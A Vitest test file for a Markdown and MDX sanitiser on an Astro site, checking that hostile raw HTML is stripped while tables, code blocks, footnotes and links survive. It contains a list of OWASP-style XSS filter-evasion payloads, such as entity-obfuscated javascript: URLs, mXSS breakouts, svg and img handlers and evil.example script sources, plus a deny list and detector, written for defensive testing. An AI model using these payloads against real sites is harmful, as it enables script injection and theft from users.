/**
 * Issue 6, item 8: raw HTML in Markdown is sanitised — no `<script>`, event-handler attributes or
 * `javascript:` URLs reach the page — while everything our articles legitimately use survives.
 * Renders through the same Sätteri processor Astro uses (Shiki, heading ids and all).
 */
import { createSatteriMarkdownProcessor } from '@astrojs/markdown-satteri';
import type { Root, RootContent } from 'hast';
import { htmlToHast, mdxToJs } from 'satteri';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { toHtml } from 'hast-util-to-html';
import { calloutsPlugin } from '../../src/lib/markdown/callouts.ts';
import {
  safeStyle,
  sanitizeContent,
  sanitizeHtml,
  sanitizeTree,
} from '../../src/lib/markdown/sanitize.ts';

type Renderer = Awaited<ReturnType<typeof createSatteriMarkdownProcessor>>;
let processor: Renderer;

beforeAll(async () => {
  // As astro.config.mjs sets it up.
  processor = await createSatteriMarkdownProcessor({
    syntaxHighlight: 'prism',
    hastPlugins: [sanitizeContent()],
  });
});

const render = async (markdown: string): Promise<string> => (await processor.render(markdown)).code;

const mdx = async (source: string): Promise<string> =>
  (
    await mdxToJs(source, {
      hastPlugins: [sanitizeContent()],
      jsxImportSource: 'astro',
      elementAttributeNameCase: 'html',
    })
  ).code;

const FORBIDDEN = new Set(
  'script style iframe frame object embed applet form meta base link svg math noscript template textarea button select video audio marquee xss'.split(
    ' ',
  ),
);
const URL_PROPERTIES = new Set([
  'href',
  'src',
  'srcSet',
  'action',
  'formAction',
  'data',
  'xLinkHref',
]);

/**
 * Every way the output could still run script or leave the page, found by parsing it as a browser
 * would (so text inside an attribute value is not mistaken for a tag).
 */
function dangers(html: string): string[] {
  const found: string[] = [];
  const walk = (node: RootContent | Root) => {
    if (node.type === 'element') {
      if (FORBIDDEN.has(node.tagName)) found.push(`element <${node.tagName}>`);
      for (const [key, value] of Object.entries(node.properties)) {
        if (/^on/i.test(key)) found.push(`handler ${key}`);
        const text = String(value);
        const url = text.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
        if (URL_PROPERTIES.has(key) && /^(javascript|vbscript|data|livescript):/.test(url))
          found.push(`${key}=${url}`);
        if (key === 'style' && /url\(|expression|position|@import|behavior/i.test(text))
          found.push(`style ${text}`);
      }
    }
    if ('children' in node) for (const child of node.children) walk(child);
  };
  walk(htmlToHast(html, { fragment: true }));
  return found;
}

/** OWASP XSS filter-evasion cheat sheet style payloads, as an editor might paste them. */
const PAYLOADS: Record<string, string> = {
  'script element': '<script>window.__pwned = 1</script>',
  'script with src, mixed case': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'img onerror': '<img src=x onerror="window.__pwned=1">',
  'img onerror, no quotes': '<img src=x onerror=alert(1)//>',
  'img javascript src': '<IMG SRC="javascript:alert(1);">',
  'img src with entities':
    '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  'link javascript: mixed case': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'link with tab entity': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'link with newline entity': '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  'link with leading spaces and control chars': '<a href=" &#14; javascript:alert(1)">x</a>',
  'link with &colon;': '<a href="javascript&colon;alert(1)">x</a>',
  'link with padded decimal entities':
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  'link with hex entities, no semicolons':
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>',
  'data: URL': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'vbscript: URL': '<a href="vbscript:msgbox(1)">x</a>',
  'onclick on a link': '<a href="#top" onclick="alert(1)">x</a>',
  'svg onload': '<svg onload=alert(1)><circle r=1 /></svg>',
  'svg script': '<svg><script>alert(1)</script></svg>',
  'svg xlink:href': '<svg><a xlink:href="javascript:alert(1)"><text x=1 y=1>x</text></a></svg>',
  'svg animate': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  'math maction':
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  'math mglyph mXSS': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  'iframe javascript src': '<iframe src="javascript:alert(1)"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  'object data': '<object data="javascript:alert(1)"></object>',
  'embed src': '<embed src="data:text/html,<script>alert(1)</script>">',
  'body onload': '<body onload=alert(1)>',
  'div onmouseover': '<div onmouseover="alert(1)">hover</div>',
  'details ontoggle': '<details open ontoggle=alert(1)><summary>s</summary>x</details>',
  'input autofocus onfocus': '<input onfocus=alert(1) autofocus>',
  'form action': '<form action="javascript:alert(1)"><button>go</button></form>',
  'button formaction': '<button formaction="javascript:alert(1)">go</button>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'base href': '<base href="javascript:alert(1)//">',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'style element': '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  'style attribute url()': '<div style="background:url(javascript:alert(1))">x</div>',
  'style attribute overlay': '<span style="position:fixed;inset:0;z-index:9">click</span>',
  'noscript mXSS': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'template script': '<template><script>alert(1)</script></template>',
  'img srcset': '<img srcset="javascript:alert(1) 1x">',
  'video source onerror': '<video><source onerror="alert(1)"></video>',
  'audio onerror': '<audio src=x onerror=alert(1)>',
  'marquee onstart': '<marquee onstart=alert(1)>x</marquee>',
  'custom element handler': '<xss onafterscriptexecute=alert(1)>x</xss>',
  'textarea breakout': '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  'comment breakout': '<!--<img src="--><img src=x onerror=alert(1)//">',
  'markdown link': '[x](javascript:alert(1))',
  'markdown image': '![x](javascript:alert(1))',
  'markdown reference link': '[x][r]\n\n[r]: javascript:alert(1)',
  'markdown autolink': '<javascript:alert(1)>',
  'markdown link, entity obfuscated': '[x](javascript&#58;alert(1))',
  'markdown data: image': '![x](data:image/svg+xml,<svg onload=alert(1)>)',
};

describe('hostile raw HTML in Markdown', () => {
  it.each(Object.entries(PAYLOADS))('%s: nothing runnable is left', async (_, payload) => {
    const html = await render(`Before.\n\n${payload}\n\nAfter.`);
    expect(dangers(html), html).toEqual([]);
    // The article around the payload is still there.
    expect(html).toContain('<p>Before.</p>');
  });

  it('the checker itself catches each kind of danger', () => {
    expect(
      dangers(
        '<script></script><img src=x onerror=1><a href="jav&#x09;ascript:1">' +
          '<span style="position:fixed">',
      ),
    ).toEqual(['element <script>', 'handler onError', 'href=javascript:1', 'style position:fixed']);
  });

  it('removes handlers and bad URLs but keeps the element and its text', async () => {
    expect(
      await render(
        'Press <kbd onclick="alert(1)">Ctrl</kbd> and <a href="javascript:alert(1)" title="t">go</a>.',
      ),
    ).toMatchInlineSnapshot(`
      "<p>Press <kbd>Ctrl</kbd> and <a title="t">go</a>.</p>
      "
    `);
  });

  it('drops script, style and iframe content instead of showing it as text', async () => {
    const html = await render(
      'A\n\n<script>window.__pwned=1</script>\n\n<style>body{}</style>\n\n<iframe>frame</iframe>\n\nB',
    );
    expect(html).not.toMatch(/__pwned|body\{\}|frame/);
  });

  it('prefixes ids and names of raw elements (no DOM clobbering) but not heading ids', async () => {
    const html = await render(
      '<h2 id="refund-steps">Steps</h2>\n\n<div id="search-config">x</div>\n\n<img src="a.png" name="getElementById" alt="">',
    );
    expect(html).toContain('<h2 id="refund-steps">');
    expect(html).toContain('id="user-content-search-config"');
    expect(html).toContain('name="user-content-getElementById"');
  });

  it('same-page links to a prefixed id or name follow it; links to headings stay', async () => {
    const html = await render(
      [
        '## 退款时效',
        '',
        '[A](#A) · [清单](#%E6%B8%85%E5%8D%95) · [时效](#退款时效) · [nowhere](#nowhere)',
        '',
        '<a id="A" class="letter" href="#A">A</a>',
        '',
        '<a name="清单"></a>',
      ].join('\n'),
    );
    expect(html.match(/href="#user-content-A"/g)).toHaveLength(2);
    expect(html).toContain('href="#user-content-%E6%B8%85%E5%8D%95"');
    expect(html).toContain('href="#%E9%80%80%E6%AC%BE%E6%97%B6%E6%95%88"');
    expect(html).toContain('href="#nowhere"');
  });
});

describe('what articles legitimately use survives', () => {
  it('headings get plain ids (no user-content- prefix), so the TOC and anchors work', async () => {
    expect(await render('## 退款时效\n\n### Step two\n\nText')).toMatchInlineSnapshot(`
      "<h2 id="退款时效">退款时效</h2>
      <h3 id="step-two">Step two</h3>
      <p>Text</p>
      "
    `);
  });

  it('tables keep their alignment; details, summary and kbd stay', async () => {
    const html = await render(
      [
        '| Channel | Days |',
        '|:--|--:|',
        '| Card | 3 |',
        '',
        '<details>',
        '<summary>Edge cases</summary>',
        '',
        'Press <kbd>Ctrl</kbd>+<kbd>K</kbd>.',
        '',
        '</details>',
      ].join('\n'),
    );
    expect(html).toContain('<th style="text-align:left">Channel</th>');
    expect(html).toContain('<td style="text-align:right">3</td>');
    expect(html).toMatch(/<details>\s*<summary>Edge cases<\/summary>\s*<p>Press <kbd>Ctrl<\/kbd>/);
  });

  it('code blocks keep Prism classes (the configured highlighter)', async () => {
    expect(await render('```js\nconst refund = 1;\n```')).toMatchInlineSnapshot(`
      "<pre class="language-js" data-language="js"><code class="language-js"><span class="token keyword">const</span> refund <span class="token operator">=</span> <span class="token number">1</span><span class="token punctuation">;</span></code></pre>
      "
    `);
  });

  it('code blocks keep Shiki classes and colours, should the site switch back to Shiki', async () => {
    const shiki = await createSatteriMarkdownProcessor({
      syntaxHighlight: 'shiki',
      hastPlugins: [sanitizeContent()],
    });
    const html = (await shiki.render('```js\nconst refund = 1;\n```')).code;
    expect(html).toMatch(
      /<pre class="astro-code [\w-]+" style="background-color:#[\da-f]+;color:#[\da-f]+;overflow-x:auto" tabindex="0" data-language="js">/i,
    );
    expect(html).toMatch(/<span class="line"><span style="color:#[\dA-F]+">const<\/span>/);
  });

  it('links, images, footnotes and task lists stay', async () => {
    const html = await render(
      [
        '[Policy](/zh-cn/kb/returns/policy/) · [Site](https://example.com/a?b=1#c) · <mailto:desk@example.com> · [Call](tel:+86-400)',
        '',
        '![Refund form](/images/form.png "The form")',
        '',
        '- [x] done',
        '',
        'Note[^1]',
        '',
        '[^1]: Footnote.',
      ].join('\n'),
    );
    expect(html).toContain('<a href="/zh-cn/kb/returns/policy/">Policy</a>');
    expect(html).toContain('<a href="https://example.com/a?b=1#c">Site</a>');
    expect(html).toContain('<a href="mailto:desk@example.com">');
    expect(html).toContain('<a href="tel:+86-400">Call</a>');
    expect(html).toContain('<img src="/images/form.png" alt="Refund form" title="The form">');
    expect(html).toContain('<input type="checkbox" checked disabled>');
    expect(html).toContain(
      '<a href="#user-content-fn-1" id="user-content-fnref-1" data-footnote-ref',
    );
    expect(html).toContain('<li id="user-content-fn-1">');
  });

  it('an article without raw HTML renders the same as without the sanitiser', async () => {
    const plain = await createSatteriMarkdownProcessor({ syntaxHighlight: 'prism' });
    const source =
      '## A\n\nText with **bold**, `code` and a [link](/x/).\n\n| a |\n|---|\n| 1 |\n\n```sh\nnpm run build\n```\n';
    const normalise = (html: string) =>
      html.replaceAll(' style="text-align: ', ' style="text-align:');
    expect(await render(source)).toBe(normalise((await plain.render(source)).code));
  });
});

describe('a tree without raw HTML is filtered as it is', () => {
  // The reference: every tree written out and parsed again before it is filtered, as a tree with
  // raw HTML still is.
  const roundTrip = {
    name: 'round-trip',
    after(root: Root, ctx: { replaceNode: (from: Root, to: Root) => void }) {
      ctx.replaceNode(
        root,
        sanitizeTree(
          htmlToHast(toHtml(root, { allowDangerousHtml: true }), { fragment: true }) as Root,
        ),
      );
    },
  };
  const source = [
    '## Steps',
    '',
    '> [!WARNING]',
    '> Check the **order** first[^1].',
    '',
    '- [x] done',
    '- [ ] open',
    '',
    '| a | b |',
    '|:-|-:|',
    '| 1 | [x](https://example.com) |',
    '',
    '```js',
    'const refund = 1;',
    '```',
    '',
    '![Form](/images/form.png "The form")',
    '',
    '[^1]: A note.',
  ].join('\n');

  it("a comment or a line break as raw HTML keeps the tree in place and gives the round trip's page", async () => {
    const withRaw = [
      '<!-- markdownlint-disable MD033 -->',
      '',
      '| a | b |',
      '|---|---|',
      '| one<br/>two | three<br>four |',
      '',
      'Text <!-- a note --> more.',
    ].join('\n');
    const fast = await createSatteriMarkdownProcessor({
      syntaxHighlight: 'prism',
      hastPlugins: [sanitizeContent()],
    });
    const reference = await createSatteriMarkdownProcessor({
      syntaxHighlight: 'prism',
      hastPlugins: [roundTrip],
    });
    const html = (await fast.render(withRaw)).code;
    expect(html).not.toContain('<!--');
    expect(html).toContain('one<br>two');
    expect(html).toBe((await reference.render(withRaw)).code);
  });

  it('a comment closed by --!> is parsed as a browser would: what follows it stays, filtered', async () => {
    const html = await render('<!-- a --!> <b>kept</b> <img src=x onerror=alert(1)> -->');
    expect(html).toContain('<b>kept</b>');
    expect(dangers(html)).toEqual([]);
  });

  for (const syntaxHighlight of ['prism', 'shiki'] as const)
    it(`gives the page the round trip gives (${syntaxHighlight})`, async () => {
      const fast = await createSatteriMarkdownProcessor({
        syntaxHighlight,
        hastPlugins: [calloutsPlugin(), sanitizeContent()],
      });
      const reference = await createSatteriMarkdownProcessor({
        syntaxHighlight,
        hastPlugins: [calloutsPlugin(), roundTrip],
      });
      // The parser reads a bare attribute back as an empty value; both mean the same.
      const same = (html: string) => html.replace(/(data-footnotes|data-footnote-ref)=""/g, '$1');
      const html = same((await fast.render(source)).code);
      expect(html).toContain('class="callout');
      expect(html).toBe(same((await reference.render(source)).code));
    });
});

describe('a Markdown tree is sanitised element by element', () => {
  type Hook = (node: unknown, ctx: unknown) => void;
  /** The two plugins a Markdown document gets: the raw-HTML screen, then the sanitiser. */
  const plugins = () => {
    const made = sanitizeContent()({
      sourceFormat: 'markdown',
      fileURL: undefined,
      source: '',
      data: {},
    });
    if (!Array.isArray(made)) throw new Error('a Markdown document gets two plugins');
    const [screen, sanitizer] = made;
    return {
      raw: (node: unknown, ctx: unknown) => (screen!.raw as Hook)(node, ctx),
      comment: (ctx: unknown) => (screen!.comment as Hook)({ type: 'comment', value: 'x' }, ctx),
      after: (ctx: unknown) => void sanitizer!.after!(root, ctx as never),
    };
  };
  const root: Root = { type: 'root', children: [] };
  const context = () => ({ replaceNode: vi.fn(), removeNode: vi.fn() });

  it('leaves a tree without raw HTML in place (no copy, no round trip)', () => {
    const ctx = context();
    plugins().after(ctx);
    expect(ctx.replaceNode).not.toHaveBeenCalled();
  });

  it('sanitises the whole tree once it has met raw HTML or a comment node', () => {
    for (const meet of [
      (p: ReturnType<typeof plugins>, ctx: unknown) => p.raw({ type: 'raw', value: '<b>' }, ctx),
      (p: ReturnType<typeof plugins>, ctx: unknown) => p.comment(ctx),
    ]) {
      const p = plugins();
      const ctx = context();
      meet(p, ctx);
      p.after(ctx);
      expect(ctx.replaceNode).toHaveBeenCalledOnce();
    }
  });

  it('drops a raw comment and turns a raw line break into an element, without a whole pass', () => {
    const p = plugins();
    const ctx = context();
    const comment = { type: 'raw', value: '<!-- markdownlint-disable MD001 -->' };
    const spaced = { type: 'raw', value: '<!-- a note -->\n ' };
    const lineBreak = { type: 'raw', value: '<br />' };
    p.raw(comment, ctx);
    p.raw(spaced, ctx);
    p.raw(lineBreak, ctx);
    expect(ctx.replaceNode).toHaveBeenCalledWith(comment, []);
    // The whitespace after it stays, as the whole pass would keep it.
    expect(ctx.replaceNode).toHaveBeenCalledWith(spaced, [{ type: 'text', value: '\n ' }]);
    expect(ctx.replaceNode).toHaveBeenCalledWith(lineBreak, [
      expect.objectContaining({ tagName: 'br' }),
    ]);
    ctx.replaceNode.mockClear();
    p.after(ctx);
    expect(ctx.replaceNode).not.toHaveBeenCalled();
    // Anything else, or a comment that does not end where it seems to, needs the whole pass.
    for (const value of [
      '<!-- a --!> <b>x</b> -->',
      '<!--> x',
      '<!-- a --> <b>x</b>',
      '<!-- a -->\u3000',
      '<b>x</b>',
    ]) {
      const other = plugins();
      const ctx2 = context();
      other.raw({ type: 'raw', value }, ctx2);
      expect(ctx2.replaceNode).not.toHaveBeenCalled();
      other.after(ctx2);
      expect(ctx2.replaceNode).toHaveBeenCalledOnce();
    }
  });

  it('removes a rejected URL before a later raw element without leaving it empty', async () => {
    const html = await render('[x](javascript:alert(1)) ![i](javascript:x)\n\n<b>raw</b>');
    expect(html).toContain('<a>x</a>');
    expect(html).toContain('<img alt="i">');
  });

  it('drops a comment node an earlier plugin added, whatever its text', async () => {
    const commenting = {
      name: 'commenting',
      after(tree: Root, ctx: { appendChild: (node: Root, child: RootContent) => void }) {
        ctx.appendChild(tree, { type: 'comment', value: ' x --><img src=x onerror=alert(1)> ' });
      },
    };
    const processor = await createSatteriMarkdownProcessor({
      syntaxHighlight: 'prism',
      hastPlugins: [commenting, sanitizeContent()],
    });
    const html = (await processor.render('Text.')).code;
    expect(html).not.toContain('<!--');
    expect(dangers(html)).toEqual([]);
  });

  it('an MDX document gets the MDX sanitiser', () => {
    const mdxPlugin = sanitizeContent()({
      sourceFormat: 'mdx',
      fileURL: undefined,
      source: '',
      data: {},
    });
    expect(Array.isArray(mdxPlugin) ? undefined : mdxPlugin.element).toBeUndefined();
    expect(Array.isArray(mdxPlugin)).toBe(false);
  });

  it('a Markdown link to a footnote by its plain id follows the prefix', async () => {
    const html = await render('[to the note](#fn-1)\n\nText[^1]\n\n[^1]: Note.');
    expect(html).toContain('<a href="#user-content-fn-1">to the note</a>');
  });

  it('a table cell outside a table, which only a plugin could make, is unwrapped', async () => {
    const stray = {
      name: 'stray-cell',
      after(tree: Root, ctx: { appendChild: (node: Root, child: RootContent) => void }) {
        ctx.appendChild(tree, {
          type: 'element',
          tagName: 'td',
          properties: {},
          children: [{ type: 'text', value: 'loose' }],
        });
      },
    };
    const processor = await createSatteriMarkdownProcessor({
      syntaxHighlight: 'prism',
      hastPlugins: [stray, sanitizeContent()],
    });
    const html = (await processor.render('Text.')).code;
    expect(html).toContain('loose');
    expect(html).not.toContain('<td>');
  });
});

describe('safeStyle', () => {
  it('keeps only colour, alignment and Shiki declarations', () => {
    expect(safeStyle('color:#E1E4E8; --shiki-dark:#fff;text-align: center')).toBe(
      'color:#E1E4E8;--shiki-dark:#fff;text-align:center',
    );
    expect(safeStyle('color: red; background-image:url(x)')).toBeUndefined();
    expect(safeStyle('color:#fff;position:fixed')).toBe('color:#fff');
  });
});

describe('sanitizeHtml', () => {
  it('sanitises a fragment outside the Markdown pipeline', () => {
    expect(sanitizeHtml('<p onclick="x">a<script>b</script></p>')).toBe('<p>a</p>');
  });
});

describe('MDX: lowercase HTML tags follow the same rules; components are untouched', () => {
  const source = `
<img src="x" onError={() => alert(1)} />

<script>{"window.__pwned = 1"}</script>

<iframe src="https://evil.example/" />

<a href="javascript:alert(1)" class="c">x</a> <a href={url}>y</a> <a href="/ok" onclick="alert(1)">ok <b onmouseover="x">b</b></a>

<div {...props}>spread</div>

<svg onLoad={() => alert(1)}><circle /></svg>

<table><tbody><tr><td colspan="2" style="text-align:right;position:fixed">cell</td></tr></tbody></table>

<ReplyTemplate title="退款确认" text="{customer}，您好" />

<Kpi id="csat" /> <Delta id="csat" /> <Target id="csat" />
`;

  it('removes handlers, scripts, frames, svg, spreads and unsafe URLs', async () => {
    const code = await mdx(source);
    expect(code).not.toMatch(/alert|__pwned|onError|onclick|onmouseover|iframe|svg|\.\.\.props/i);
    expect(code).toContain('_jsx("img", { src: "x" })');
    expect(code).toContain('href: "/ok"');
    expect(code).toMatch(/colspan: "2",\s+style: "text-align:right"/);
  });

  it('leaves components and their props alone', async () => {
    const code = await mdx(source);
    expect(code).toMatch(
      /_jsx\(ReplyTemplate, \{\s+title: "退款确认",\s+text: "\{customer\}，您好"\s+\}\)/,
    );
    expect(code).toContain('_jsx(Kpi, { id: "csat" })');
    expect(code).toContain('_jsx(Delta, { id: "csat" })');
    expect(code).toContain('_jsx(Target, { id: "csat" })');
  });
});
